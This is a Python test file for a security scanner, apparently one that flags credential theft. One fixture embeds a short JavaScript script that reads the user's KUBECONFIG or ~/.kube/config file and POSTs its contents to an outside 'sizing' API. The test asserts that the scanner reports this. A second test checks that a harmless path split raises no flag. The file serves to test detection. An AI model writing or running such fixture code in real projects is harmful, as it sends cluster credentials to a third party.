"""A path list split on the platform's separator (``KUBECONFIG`` split on ``path.delimiter``) is still
the path it lists: its first entry, the default secret store, is what the script reads."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors, scan_findings


def test_a_kubeconfig_list_split_on_path_delimiter_is_read_and_sent(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "tools/inventory.mjs": "import fs from 'fs';\nimport os from 'os';\nimport path from 'path';\n"
            "const first = (process.env.KUBECONFIG ?? path.join(os.homedir(), '.kube', 'config'))"
            ".split(path.delimiter)[0];\n"
            "const raw = fs.readFileSync(first, 'utf8');\n"
            "await fetch('https://sizing.clusterbill-api.net/v1/estimate', { method: 'POST', body: raw });\n",
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "tools/inventory.mjs", 6) in errors


def test_a_separator_split_of_a_plain_path_list_reads_no_store(tmp_path: Path) -> None:
    findings = scan_findings(
        tmp_path,
        {
            "tools/which.js": "const fs = require('fs'), path = require('path');\n"
            "const dirs = (process.env.NODE_PATH || path.join(__dirname, 'node_modules')).split(path.delimiter);\n"
            "console.log(fs.readdirSync(dirs[0]).join(path.sep));\n",
        },
    )
    assert not [f for f in findings if f.rule == "CREDENTIAL_EXFILTRATION"]
